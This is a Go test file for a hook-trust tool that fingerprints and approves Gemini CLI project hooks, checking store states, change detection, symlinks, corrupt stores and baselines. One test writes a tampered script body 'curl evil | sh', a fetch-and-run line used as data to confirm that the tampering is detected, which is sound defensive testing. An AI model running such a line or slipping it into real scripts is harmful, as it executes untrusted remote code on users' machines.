package fingerprint

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/gh-hooks/gh-hooks/internal/js"

	"github.com/google/go-cmp/cmp"

	"github.com/gh-hooks/gh-hooks/merge"
)

// hk builds a project command hook the way merge reports one.
func hk(event string, def, idx int, name, cmd string) merge.Hook {
	h := merge.Hook{
		ID: fmt.Sprintf("project/%s/%d/%d", event, def, idx), Event: event, Layer: "project",
		Type: "command", Name: name, Command: cmd, ExpandedCommand: cmd, Timeout: merge.DefaultTimeout,
		DefIndex: def, HookIndex: idx,
	}
	h.Key = name + ":" + cmd
	h.DisableName = name
	if name == "" {
		h.DisableName = cmd
	}
	return h
}

func newProject(t *testing.T) (home string, p Project) {
	t.Helper()
	root := t.TempDir()
	home = filepath.Join(root, "home")
	if err := os.MkdirAll(filepath.Join(home, ".gemini"), 0o700); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(root, "proj")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	p, err := NewProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	return home, p
}

func statuses(r *Report) []string {
	var out []string
	for _, h := range r.Hooks {
		s := h.ID + " " + string(h.Status)
		if len(h.Changes) > 0 {
			s += ": " + strings.Join(h.Changes, ", ")
		}
		if h.Gemini != "" {
			s += " [gemini " + h.Gemini + "]"
		}
		out = append(out, s)
	}
	return out
}

func mustAudit(t *testing.T, o Options) *Report {
	t.Helper()
	r, err := Audit(o)
	if err != nil {
		t.Fatalf("Audit: %v", err)
	}
	return r
}

func mustApprove(t *testing.T, o Options) {
	t.Helper()
	if _, err := Approve(o, Selection{All: true}, false); err != nil {
		t.Fatalf("Approve: %v", err)
	}
}

// The worked example of spec §6: Gemini's store after the first run, byte
// for byte (file order: BeforeTool, Bogus, AfterTool; runtime skipped;
// duplicate ":echo b" once; typeless hook keyed "typeless:").
func TestApproveGeminiWorkedExample(t *testing.T) {
	home := t.TempDir()
	typeless := hk("AfterTool", 0, 1, "typeless", "echo t")
	typeless.Type, typeless.Key, typeless.DisableName = "", "typeless:", "typeless"
	rt := hk("AfterTool", 0, 0, "rt", "")
	rt.Type = "runtime"
	n1 := hk("BeforeTool", 0, 0, "n1", "echo a")
	n1.Matcher = "x"
	bMatch := hk("BeforeTool", 0, 1, "", "echo b")
	bMatch.Matcher = "x"
	hooks := []merge.Hook{n1, bMatch, hk("Bogus", 0, 0, "", "echo bogus"), rt, typeless, hk("AfterTool", 0, 2, "", "echo b")}
	o := Options{Home: home, Project: Project{Dir: "/proj/one", Real: "/proj/one"}, Hooks: hooks}
	res, err := Approve(o, Selection{All: true}, false)
	if err != nil {
		t.Fatal(err)
	}
	want := "{\n  \"/proj/one\": [\n    \"n1:echo a\",\n    \":echo b\",\n    \":echo bogus\",\n    \"typeless:\"\n  ]\n}"
	got, err := os.ReadFile(GeminiStorePath(home))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, string(got)); diff != "" {
		t.Errorf("trusted_hooks.json (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"n1:echo a", ":echo b", ":echo bogus", "typeless:"}, res.GeminiKeys); diff != "" {
		t.Errorf("GeminiKeys (-want +got):\n%s", diff)
	}
	// Changing "echo a" to "echo a2" appends "n1:echo a2" and keeps the old key.
	hooks[0] = hk("BeforeTool", 0, 0, "n1", "echo a2")
	hooks[0].Matcher = "x"
	mustApprove(t, o)
	o.Hooks = hooks
	mustApprove(t, o)
	got, _ = os.ReadFile(GeminiStorePath(home))
	want = "{\n  \"/proj/one\": [\n    \"n1:echo a\",\n    \":echo b\",\n    \":echo bogus\",\n    \"typeless:\",\n    \"n1:echo a2\"\n  ]\n}"
	if diff := cmp.Diff(want, string(got)); diff != "" {
		t.Errorf("after edit (-want +got):\n%s", diff)
	}
	// Nothing new: the file is not rewritten.
	res, err = Approve(o, Selection{All: true}, false)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range res.Files {
		if f.Path == GeminiStorePath(home) {
			t.Errorf("up-to-date Gemini store rewritten: %q", f.After)
		}
	}
}

// Gemini's store in every state it can be found in.
func TestGeminiStoreStates(t *testing.T) {
	tests := []struct {
		name        string
		store       *string // nil: no file
		wantGemini  string  // audit's gemini column for the hook
		wantProblem string  // substring of GeminiProblem
		wantErr     string  // substring of Approve's error; "" = success
		wantAfter   string  // Gemini store after approve; %P is the project
	}{
		{name: "missing", store: nil, wantGemini: "untrusted",
			wantAfter: "{\n  \"%P\": [\n    \"fmt:./fmt.sh\"\n  ]\n}"},
		{name: "empty", store: ptr(""), wantGemini: "untrusted",
			wantAfter: "{\n  \"%P\": [\n    \"fmt:./fmt.sh\"\n  ]\n}"},
		{name: "already trusted", store: ptr(`{"%P":["fmt:./fmt.sh"]}`), wantGemini: "trusted",
			wantAfter: `{"%P":["fmt:./fmt.sh"]}`},
		{name: "foreign projects kept, escaping like JSON.stringify", store: ptr(`{"/other/<a&b>":["x:echo '<&>'` + "\u2028" + `\u0001\/"], "/n": {"k": [1.50, 1e21, 2e-7, true, null]}}`),
			wantGemini: "untrusted",
			wantAfter: "{\n  \"/other/<a&b>\": [\n    \"x:echo '<&>'\u2028\\u0001/\"\n  ],\n  \"/n\": {\n    \"k\": [\n      1.5,\n      1e+21,\n      2e-7,\n      true,\n      null\n    ]\n  },\n" +
				"  \"%P\": [\n    \"fmt:./fmt.sh\"\n  ]\n}"},
		{name: "existing keys first, set-union", store: ptr(`{"%P":["old:x","old:x","fmt:./fmt.sh"],"0":[]}`), wantGemini: "trusted",
			wantAfter: `{"%P":["old:x","old:x","fmt:./fmt.sh"],"0":[]}`},
		{name: "corrupt", store: ptr("{\n  \"/a\": [\"x\",]\n}"), wantGemini: "untrusted",
			wantProblem: "trusted_hooks.json:2:", wantErr: "corrupt Gemini trusted-hooks store"},
		{name: "comments are corrupt for JSON.parse", store: ptr("// mine\n{}"), wantGemini: "untrusted",
			wantProblem: "trusted_hooks.json:1:1", wantErr: "hint: "},
		{name: "root not an object", store: ptr(`["a"]`), wantGemini: "untrusted",
			wantProblem: "not an object", wantErr: "root is an array"},
		{name: "string value read as characters", store: ptr(`{"%P":"fmt:./fmt.sh"}`), wantGemini: "untrusted",
			wantProblem: "set of characters", wantErr: "is a string, not a list of hook keys"},
		{name: "object value", store: ptr(`{"%P":{"a":1}}`), wantGemini: "untrusted",
			wantProblem: "trust check fails", wantErr: "is an object, not a list"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			home, p := newProject(t)
			writeFile(t, filepath.Join(p.Dir, "fmt.sh"), "gofmt\n")
			o := Options{Home: home, Project: p, Hooks: []merge.Hook{hk("BeforeTool", 0, 0, "fmt", "./fmt.sh")}}
			gpath := GeminiStorePath(home)
			var before string
			if tt.store != nil {
				before = strings.ReplaceAll(*tt.store, "%P", p.Dir)
				writeFile(t, gpath, before)
			}
			r := mustAudit(t, o)
			if r.Hooks[0].Gemini != tt.wantGemini {
				t.Errorf("gemini = %q, want %q", r.Hooks[0].Gemini, tt.wantGemini)
			}
			if !strings.Contains(r.GeminiProblem, tt.wantProblem) || (tt.wantProblem == "") != (r.GeminiProblem == "") {
				t.Errorf("GeminiProblem = %q, want it to contain %q", r.GeminiProblem, tt.wantProblem)
			}
			_, err := Approve(o, Selection{All: true}, false)
			got, _ := os.ReadFile(gpath)
			if tt.wantErr != "" {
				msg := ""
				if err != nil {
					msg = err.Error()
					var se *StoreError
					if errors.As(err, &se) {
						msg += " hint: " + se.Hint
					}
				}
				if !strings.Contains(msg, tt.wantErr) || !errors.Is(err, ErrCorrupt) {
					t.Errorf("Approve error = %q, want ErrCorrupt containing %q", msg, tt.wantErr)
				}
				if string(got) != before {
					t.Errorf("Gemini store changed on error: %q", got)
				}
				if _, err := os.Stat(StorePath(home)); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("gh-hooks store written although approve failed")
				}
				return
			}
			if err != nil {
				t.Fatalf("Approve: %v", err)
			}
			if diff := cmp.Diff(strings.ReplaceAll(tt.wantAfter, "%P", p.Dir), string(got)); diff != "" {
				t.Errorf("Gemini store after approve (-want +got):\n%s", diff)
			}
		})
	}
}

func ptr(s string) *string { return &s }

// Every change kind is detected, while Gemini's key check (name:command)
// only notices the command change.
func TestChangeKinds(t *testing.T) {
	tests := []struct {
		name       string
		edit       func(h *merge.Hook, dir string)
		want       []string
		wantGemini string
	}{
		{"nothing", func(h *merge.Hook, dir string) {}, nil, "trusted"},
		{"command", func(h *merge.Hook, dir string) {
			h.Command, h.ExpandedCommand, h.Key = "./fmt.sh --all", "./fmt.sh --all", "fmt:./fmt.sh --all"
		}, []string{"command"}, "untrusted"},
		{"matcher", func(h *merge.Hook, dir string) { h.Matcher = ".*" }, []string{"matcher"}, "trusted"},
		{"timeout", func(h *merge.Hook, dir string) { h.Timeout = 5000 }, []string{"timeout"}, "trusted"},
		{"env", func(h *merge.Hook, dir string) { h.Env = map[string]string{"MODE": "evil"} }, []string{"env"}, "trusted"},
		{"sequential", func(h *merge.Hook, dir string) { h.Sequential = true }, []string{"sequential"}, "trusted"},
		{"event", func(h *merge.Hook, dir string) { h.Event, h.ID = "AfterTool", "project/AfterTool/0/0" }, []string{"event"}, "trusted"},
		{"script body", func(h *merge.Hook, dir string) { writeFile(t, filepath.Join(dir, "fmt.sh"), "curl evil | sh\n") },
			[]string{"not covered", "script ./fmt.sh"}, "trusted"},
		{"script removed", func(h *merge.Hook, dir string) { os.Remove(filepath.Join(dir, "fmt.sh")) },
			[]string{"script ./fmt.sh missing"}, "trusted"},
		{"matcher and script", func(h *merge.Hook, dir string) {
			h.Matcher = "write_file"
			writeFile(t, filepath.Join(dir, "fmt.sh"), "# x\n")
		}, []string{"matcher", "script ./fmt.sh"}, "trusted"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			home, p := newProject(t)
			writeFile(t, filepath.Join(p.Dir, "fmt.sh"), "gofmt -l .\n")
			h := hk("BeforeTool", 0, 0, "fmt", "./fmt.sh")
			o := Options{Home: home, Project: p, Hooks: []merge.Hook{h}}
			mustApprove(t, o)
			tt.edit(&h, p.Dir)
			o.Hooks = []merge.Hook{h}
			r := mustAudit(t, o)
			status, wantUnapproved := Changed, 1
			if tt.want == nil {
				status, wantUnapproved, tt.want = Approved, 0, []string{}
			}
			got := r.Hooks[0]
			if got.Status != status || got.Gemini != tt.wantGemini || r.Unapproved != wantUnapproved {
				t.Errorf("status %s gemini %s unapproved %d, want %s %s %d", got.Status, got.Gemini, r.Unapproved, status, tt.wantGemini, wantUnapproved)
			}
			if diff := cmp.Diff(tt.want, got.Changes); diff != "" {
				t.Errorf("changes (-want +got):\n%s", diff)
			}
		})
	}
}

// Hooks are matched to approvals by identity, not by their shifting IDs.
func TestMatching(t *testing.T) {
	a := hk("BeforeTool", 0, 0, "", "echo a")
	b := hk("BeforeTool", 0, 1, "", "echo b")
	named := hk("BeforeTool", 1, 0, "lint", "npm run lint")
	tests := []struct {
		name string
		cur  []merge.Hook
		want []string
	}{
		{"inserted first: new, others approved", []merge.Hook{
			hk("BeforeTool", 0, 0, "", "echo new"), hk("BeforeTool", 0, 1, "", "echo a"), hk("BeforeTool", 0, 2, "", "echo b"), named},
			[]string{"project/BeforeTool/0/0 new", "project/BeforeTool/0/1 approved", "project/BeforeTool/0/2 approved", "project/BeforeTool/1/0 approved"}},
		{"nameless command edited in place", []merge.Hook{a, hk("BeforeTool", 0, 1, "", "echo b2"), named},
			[]string{"project/BeforeTool/0/0 approved", "project/BeforeTool/0/1 changed: command", "project/BeforeTool/1/0 approved"}},
		{"insert and edit at once", []merge.Hook{
			hk("BeforeTool", 0, 0, "", "echo new"), hk("BeforeTool", 0, 1, "", "echo a"), hk("BeforeTool", 0, 2, "", "echo b2"), named},
			[]string{"project/BeforeTool/0/0 new", "project/BeforeTool/0/1 approved", "project/BeforeTool/0/2 changed: command", "project/BeforeTool/1/0 approved"}},
		{"named hook moved and edited", []merge.Hook{hk("BeforeTool", 0, 0, "lint", "npm run lint -- --fix"), hk("BeforeTool", 0, 1, "", "echo a"), hk("BeforeTool", 0, 2, "", "echo b")},
			[]string{"project/BeforeTool/0/0 changed: command", "project/BeforeTool/0/1 approved", "project/BeforeTool/0/2 approved"}},
		{"appended hook", []merge.Hook{a, b, named, hk("AfterTool", 0, 0, "", "echo after")},
			[]string{"project/BeforeTool/0/0 approved", "project/BeforeTool/0/1 approved", "project/BeforeTool/1/0 approved", "project/AfterTool/0/0 new"}},
		{"named hook moved to another event", []merge.Hook{a, b, hk("AfterTool", 0, 0, "lint", "npm run lint")},
			[]string{"project/BeforeTool/0/0 approved", "project/BeforeTool/0/1 approved", "project/AfterTool/0/0 changed: event"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			home, p := newProject(t)
			o := Options{Home: home, Project: p, Hooks: []merge.Hook{a, b, named}}
			mustApprove(t, o)
			o.Hooks = tt.cur
			r := mustAudit(t, o)
			var got []string
			for _, h := range r.Hooks {
				s := h.ID + " " + string(h.Status)
				if len(h.Changes) > 0 {
					s += ": " + strings.Join(h.Changes, ", ")
				}
				got = append(got, s)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("statuses (-want +got):\n%s", diff)
			}
		})
	}
}

// A project reached through a symlink: gh-hooks keys its store by the real
// path, Gemini's key is the path as given (path.resolve, spec §6).
func TestSymlinkedProject(t *testing.T) {
	home, real := newProject(t)
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(real.Dir, link); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}
	p, err := NewProject(link)
	if err != nil {
		t.Fatal(err)
	}
	if p.Dir != link || p.Real != real.Real {
		t.Fatalf("NewProject(%q) = %+v, want Dir %q Real %q", link, p, link, real.Real)
	}
	writeFile(t, filepath.Join(real.Dir, "x.sh"), "echo\n")
	hooks := []merge.Hook{hk("BeforeTool", 0, 0, "x", "$GEMINI_PROJECT_DIR/x.sh")}
	mustApprove(t, Options{Home: home, Project: p, Hooks: hooks})
	entries, err := List(home)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]Entry{{Project: real.Real, Dir: link, Hooks: 1, Exists: true}}, entries); diff != "" {
		t.Errorf("List (-want +got):\n%s", diff)
	}
	g, _ := os.ReadFile(GeminiStorePath(home))
	if want := fmt.Sprintf("{\n  %q: [\n    \"x:$GEMINI_PROJECT_DIR/x.sh\"\n  ]\n}", link); string(g) != want {
		t.Errorf("Gemini store = %q, want %q", g, want)
	}
	// Through the real path the approval is the same; Gemini's key differs.
	r := mustAudit(t, Options{Home: home, Project: real, Hooks: hooks})
	if diff := cmp.Diff([]string{"project/BeforeTool/0/0 approved [gemini untrusted]"}, statuses(r)); diff != "" {
		t.Errorf("audit via real path (-want +got):\n%s", diff)
	}
	if s := r.Hooks[0].Scripts; len(s) != 1 || s[0].State != ScriptOK || s[0].Path != "./x.sh" {
		t.Errorf("scripts = %+v, want ./x.sh ok", s)
	}
}

// Missing and unreadable scripts are named in the audit.
func TestScriptProblemsInAudit(t *testing.T) {
	home, p := newProject(t)
	os.Mkdir(filepath.Join(p.Dir, "dir.sh"), 0o755)
	writeFile(t, filepath.Join(p.Dir, "secret.sh"), "echo\n")
	hooks := []merge.Hook{hk("BeforeTool", 0, 0, "", "./gone.sh"), hk("BeforeTool", 0, 1, "", "bash dir.sh"), hk("BeforeTool", 0, 2, "", "node $UNSET/x.js")}
	wantStates := []ScriptState{ScriptMissing, ScriptUnreadable}
	if os.Geteuid() != 0 { // root reads 0000 files
		os.Chmod(filepath.Join(p.Dir, "secret.sh"), 0)
		t.Cleanup(func() { os.Chmod(filepath.Join(p.Dir, "secret.sh"), 0o644) })
		hooks = append(hooks, hk("BeforeTool", 0, 3, "", "sh ./secret.sh"))
		wantStates = append(wantStates, ScriptUnreadable)
	}
	r := mustAudit(t, Options{Home: home, Project: p, Hooks: hooks})
	var got []ScriptState
	for _, h := range r.Hooks {
		for _, s := range h.Scripts {
			if !s.Probe { // a place looked in (node's .nvmrc) is missing as a rule
				got = append(got, s.State)
			}
		}
	}
	if diff := cmp.Diff(wantStates, got); diff != "" {
		t.Errorf("script states (-want +got):\n%s", diff)
	}
	if d := r.Hooks[1].Scripts[0].Detail; d != "is a directory" {
		t.Errorf("detail = %q, want %q", d, "is a directory")
	}
}

// A corrupt gh-hooks store is an error with a position and is left alone.
func TestCorruptStore(t *testing.T) {
	tests := []struct {
		name, data, want string
	}{
		{"syntax", "{\n  \"version\": 1,\n  \"projects\": {,}\n}", "trust.json:3:16: invalid JSON"},
		{"shape", "{\n  \"version\": 1,\n  \"projects\": []\n}", "trust.json:3:15: projects: want an object, got array"},
		{"version", `{"version": 7, "projects": {}}`, "trust.json:1:1: unsupported store version 7"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			home, p := newProject(t)
			writeFile(t, StorePath(home), tt.data)
			o := Options{Home: home, Project: p, Hooks: []merge.Hook{hk("BeforeTool", 0, 0, "", "echo")}}
			for _, call := range []func() error{
				func() error { _, err := Audit(o); return err },
				func() error { _, err := Approve(o, Selection{All: true}, false); return err },
				func() error { _, err := Revoke(o, Selection{All: true}, false); return err },
				func() error { _, _, err := Prune(home, false); return err },
			} {
				err := call()
				if err == nil || !strings.Contains(err.Error(), tt.want) || !errors.Is(err, ErrCorrupt) {
					t.Errorf("error = %v, want ErrCorrupt containing %q", err, tt.want)
				}
			}
			if got, _ := os.ReadFile(StorePath(home)); string(got) != tt.data {
				t.Errorf("corrupt store rewritten: %q", got)
			}
		})
	}
}

func TestApproveSelectionRevokePrune(t *testing.T) {
	home, p := newProject(t)
	hooks := []merge.Hook{hk("BeforeTool", 0, 0, "fmt", "./fmt.sh"), hk("AfterTool", 0, 0, "", "echo done")}
	o := Options{Home: home, Project: p, Hooks: hooks}
	if _, err := Approve(o, Selection{}, false); !errors.Is(err, ErrNoSelection) {
		t.Errorf("empty selection: %v, want ErrNoSelection", err)
	}
	_, err := Approve(o, Selection{Names: []string{"nope"}}, false)
	if !errors.Is(err, ErrNoSuchHook) || !strings.Contains(err.Error(), `"nope"`) {
		t.Errorf("unknown name: %v", err)
	}
	// Dry run writes nothing but shows the would-be files.
	res, err := Approve(o, Selection{Names: []string{"fmt"}}, true)
	if err != nil || len(res.Files) != 2 {
		t.Fatalf("dry run: %v %+v", err, res)
	}
	if _, err := os.Stat(StorePath(home)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("dry run wrote the store")
	}
	if _, err := Approve(o, Selection{Names: []string{"fmt"}}, false); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(StorePath(home))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("store mode = %v (%v), want 0600", fi.Mode(), err)
	}
	r := mustAudit(t, o)
	if diff := cmp.Diff([]string{"project/BeforeTool/0/0 approved [gemini trusted]", "project/AfterTool/0/0 new [gemini untrusted]"}, statuses(r)); diff != "" {
		t.Errorf("after partial approve (-want +got):\n%s", diff)
	}
	if _, err := Approve(o, Selection{Names: []string{"echo done"}}, false); err != nil {
		t.Fatal(err)
	}
	if _, err := Revoke(o, Selection{Names: []string{"project/BeforeTool/0/0"}}, false); err != nil {
		t.Fatal(err)
	}
	r = mustAudit(t, o)
	if diff := cmp.Diff([]string{"project/BeforeTool/0/0 new [gemini trusted]", "project/AfterTool/0/0 approved [gemini trusted]"}, statuses(r)); diff != "" {
		t.Errorf("after revoke (-want +got):\n%s", diff)
	}
	// Prune drops projects whose directory is gone.
	gone, _ := newProject(t)
	_ = gone
	_, p2 := newProject(t)
	mustApprove(t, Options{Home: home, Project: p2, Hooks: hooks})
	os.RemoveAll(p2.Dir)
	dropped, _, err := Prune(home, false)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{p2.Real}, dropped); diff != "" {
		t.Errorf("Prune (-want +got):\n%s", diff)
	}
	entries, _ := List(home)
	if len(entries) != 1 || entries[0].Project != p.Real {
		t.Errorf("List after prune = %+v", entries)
	}
	if _, err := Revoke(o, Selection{All: true}, false); err != nil {
		t.Fatal(err)
	}
	if entries, _ := List(home); len(entries) != 0 {
		t.Errorf("List after revoke --all = %+v", entries)
	}
}

// Concurrent approvals of different projects lose nothing (flock around
// read-modify-write).
func TestConcurrentApprove(t *testing.T) {
	home := t.TempDir()
	const n = 12
	var wg sync.WaitGroup
	errs := make(chan error, n)
	for i := range n {
		dir := filepath.Join(t.TempDir(), fmt.Sprint("p", i))
		os.Mkdir(dir, 0o755)
		p, err := NewProject(dir)
		if err != nil {
			t.Fatal(err)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := Approve(Options{Home: home, Project: p, Hooks: []merge.Hook{hk("BeforeTool", 0, 0, "", "echo")}}, Selection{All: true}, false)
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	entries, err := List(home)
	if err != nil || len(entries) != n {
		t.Errorf("List = %d entries (%v), want %d", len(entries), err, n)
	}
	gs := ReadGeminiStore(GeminiStorePath(home))
	if gs.Problem != nil || len(gs.root.Keys) != n {
		t.Errorf("Gemini store has %d projects (%v), want %d", len(gs.root.Keys), gs.Problem, n)
	}
}

func TestBaseline(t *testing.T) {
	home, p := newProject(t)
	_ = home
	writeFile(t, filepath.Join(p.Dir, "scripts", "x.sh"), "echo x\n")
	h1 := hk("AfterTool", 0, 0, "", "bash scripts/x.sh")
	h2 := hk("BeforeTool", 0, 0, "fmt", "${GEMINI_PROJECT_DIR}/scripts/x.sh")
	h2.Env = map[string]string{"B": "2", "A": "<1>"}
	data := MarshalBaseline(p, []merge.Hook{h1, h2})
	if strings.Contains(string(data), p.Dir) {
		t.Errorf("baseline holds the absolute project path:\n%s", data)
	}
	if again := MarshalBaseline(p, []merge.Hook{h2, h1}); string(again) != string(data) {
		t.Errorf("baseline depends on input order:\n%s\n%s", data, again)
	}
	fp := func(h merge.Hook) string { return Compute(p, []merge.Hook{h})[0].Record.Fingerprint }
	want := fmt.Sprintf(`{
  "version": 1,
  "hooks": [
    {
      "event": "BeforeTool",
      "pos": "0/0",
      "name": "fmt",
      "type": "command",
      "command": "${GEMINI_PROJECT_DIR}/scripts/x.sh",
      "timeout": 60000,
      "env": {
        "A": "<1>",
        "B": "2"
      },
      "scripts": {
        "./scripts/x.sh": "sha256:%s"
      },
      "fingerprint": "%s",
      "scheme": %d
    },
    {
      "event": "AfterTool",
      "pos": "0/0",
      "type": "command",
      "command": "bash scripts/x.sh",
      "timeout": 60000,
      "scripts": {
        "./scripts/x.sh": "sha256:%s"
      },
      "fingerprint": "%s",
      "scheme": %d
    }
  ]
}
`, sum("echo x\n"), fp(h2), Scheme, sum("echo x\n"), fp(h1), Scheme)
	if diff := cmp.Diff(want, string(data)); diff != "" {
		t.Errorf("baseline (-want +got):\n%s", diff)
	}
	path := BaselinePath(p)
	if _, err := CheckBaseline(p, nil, path); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("missing baseline: %v, want ErrNotExist", err)
	}
	writeFile(t, path, string(data))
	writeFile(t, filepath.Join(p.Dir, "scripts", "x.sh"), "echo changed\n")
	h1.Timeout = 1000
	r, err := CheckBaseline(p, []merge.Hook{h2, h1, hk("AfterTool", 0, 1, "", "echo new")}, path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"project/BeforeTool/0/0 changed: script ./scripts/x.sh",
		"project/AfterTool/0/0 changed: timeout, script ./scripts/x.sh", "project/AfterTool/0/1 new"}, statuses(r)); diff != "" {
		t.Errorf("CheckBaseline (-want +got):\n%s", diff)
	}
	writeFile(t, path, "{\"version\": 1, \"hooks\": [\n  {\"event\": 3}]}")
	if _, err := CheckBaseline(p, nil, path); err == nil || !strings.Contains(err.Error(), "gh-hooks-trust.json:2:13: hooks.event: want a string, got number") {
		t.Errorf("corrupt baseline: %v", err)
	}
}

func TestPlanDisable(t *testing.T) {
	r := &Report{Hooks: []HookReport{
		{Status: Approved, DisableName: "fmt"},
		{Status: New, DisableName: "lint"},
		{Status: Changed, DisableName: "fmt"}, // same name as an approved hook
		{Status: New, DisableName: "already"},
		{Status: New, DisableName: "lint"},
		{Status: Changed, DisableName: "guard"},
	}}
	others := []merge.Hook{{DisableName: "guard", Layer: "user"}}
	got := PlanDisable(r, []string{"already"}, others)
	want := DisablePlan{Add: []string{"lint", "fmt", "guard"}, Shared: []string{"fmt", "guard"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("PlanDisable (-want +got):\n%s", diff)
	}
}

func TestJSNumber(t *testing.T) {
	tests := []struct {
		in   float64
		want string
	}{
		{0, "0"}, {1, "1"}, {-1.5, "-1.5"}, {1e21, "1e+21"}, {1e20, "100000000000000000000"},
		{123456789012345680000, "123456789012345680000"}, {0.000001, "0.000001"}, {1e-7, "1e-7"},
		{1.5e-7, "1.5e-7"}, {0.1, "0.1"}, {60000, "60000"}, {1.7976931348623157e308, "1.7976931348623157e+308"},
	}
	for _, tt := range tests {
		if got := js.StringifyNumber(tt.in); got != tt.want {
			t.Errorf("js.StringifyNumber(%v) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// BenchmarkAudit audits 50 project hooks, each running a local script.
func BenchmarkAudit(b *testing.B) {
	root := b.TempDir()
	home, dir := filepath.Join(root, "home"), filepath.Join(root, "proj")
	os.MkdirAll(filepath.Join(dir, "scripts"), 0o755)
	p, _ := NewProject(dir)
	var hooks []merge.Hook
	for i := range 50 {
		name := fmt.Sprintf("scripts/h%d.sh", i)
		os.WriteFile(filepath.Join(dir, name), []byte(strings.Repeat("echo hi\n", 100)), 0o755)
		hooks = append(hooks, hk("BeforeTool", 0, i, "", "bash "+name+" --x && echo ok"))
	}
	o := Options{Home: home, Project: p, Hooks: hooks}
	if _, err := Approve(o, Selection{All: true}, false); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if _, err := Audit(o); err != nil {
			b.Fatal(err)
		}
	}
}
